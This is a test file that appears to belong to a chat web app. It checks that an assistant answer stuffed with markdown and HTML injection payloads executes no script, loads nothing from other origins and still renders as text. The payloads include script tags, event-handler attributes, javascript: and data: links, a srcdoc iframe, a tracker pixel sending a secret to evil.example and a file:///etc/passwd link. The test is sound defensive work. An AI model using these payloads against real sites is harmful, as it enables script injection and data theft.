import { answers, textOf } from "#e2e/support/chat.ts";
import { answerWith } from "#e2e/support/sandbox.ts";
import { expect, test } from "#e2e/support/test.ts";
import { firstMessage } from "#scripts/support/messages.ts";

const attack = `# <script>window.hit = "script"</script>

<img src=x onerror="window.hit='img'"> <iframe srcdoc="<script>parent.hit='frame'</script>"></iframe>
<style>body { display: none }</style> <link rel="stylesheet" href="https://evil.example/a.css">
<svg onload="window.hit='svg'"></svg><form action="https://evil.example"><button>Pay</button></form>

![tracker](https://evil.example/pixel.png?secret=1) ![relative](/api/auth/signout) ![data](data:image/svg+xml,<svg onload=alert(1)>)

[run](javascript:window.hit='link') [run](JaVaScRiPt:window.hit='link') [data](data:text/html,<script>window.hit=1</script>)
[vb](vbscript:x) [ref][r] <javascript:window.hit='auto'> [file](file:///etc/passwd) [same](/settings/people)

[r]: javascript:window.hit='reference'

\`\`\`"><script>window.hit='info'</script>
code
\`\`\`

$\\href{javascript:window.hit='katex'}{x} \\url{javascript:1} \\includegraphics{https://evil.example/k.png} \\htmlClass{a}{b}$

| a | b |
|---|---|
| <img src=x onerror="window.hit='cell'"> | \`</td><script>window.hit='code'</script>\` |

<details open ontoggle="window.hit='toggle'"><summary>s</summary></details>
[a](https://evil.example/?q=1 "title\\" onmouseover=window.hit='title' x=\\"")

Last line.
`;

test("an answer that attacks runs nothing, loads nothing and stays readable", async ({ page, person, server }) => {
  await answerWith(server, "attack me", attack);
  let id = "";
  for await (const event of person.send(firstMessage("attack me", "harbour-guide"))) {
    if (event.type === "accepted") id = event.conversationId;
  }
  // Any request to another origin and any error in the console fails this test by itself.
  await page.goto(`/c/${id}`);
  const answer = textOf(answers(page, "complete"));
  await expect(answer).toContainText("Last line.");
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { hit?: unknown }).hit)).toBeUndefined();
  await expect(answer).toBeVisible();
  for (const tag of ["script", "iframe", "style", "link", "form", "object", "embed", "details", "img"]) {
    expect(await answer.locator(tag).count(), `<${tag}> in the answer`).toBe(0);
  }
  const addresses = await answer
    .locator("a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:|#|$)/);
  const handlers = await answer.evaluate((element) =>
    [...element.querySelectorAll("*")].flatMap((child) =>
      child.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc"),
    ),
  );
  expect(handlers).toEqual([]);
  // The words of the attack are there to be read.
  await expect(answer).toContainText('onerror="window.hit=');
});

test("a link of another origin opens only after a click that shows the host", async ({
  page,
  person,
  server,
  context,
}) => {
  await answerWith(
    server,
    "link me",
    "[the handbook](https://docs.example.org/handbook) and ![a chart](https://img.example.org/c.png)",
  );
  let id = "";
  for await (const event of person.send(firstMessage("link me", "harbour-guide"))) {
    if (event.type === "accepted") id = event.conversationId;
  }
  await page.goto(`/c/${id}`);
  await page.getByRole("link", { name: /the handbook/ }).click();
  const dialog = page.getByRole("alertdialog").or(page.getByRole("dialog"));
  await expect(dialog).toContainText("docs.example.org");
  expect(context.pages()).toHaveLength(1);
  await dialog.getByRole("button", { name: "Stay here" }).click();
  await page.getByRole("link", { name: /a chart/ }).click();
  await expect(dialog).toContainText("img.example.org");
});
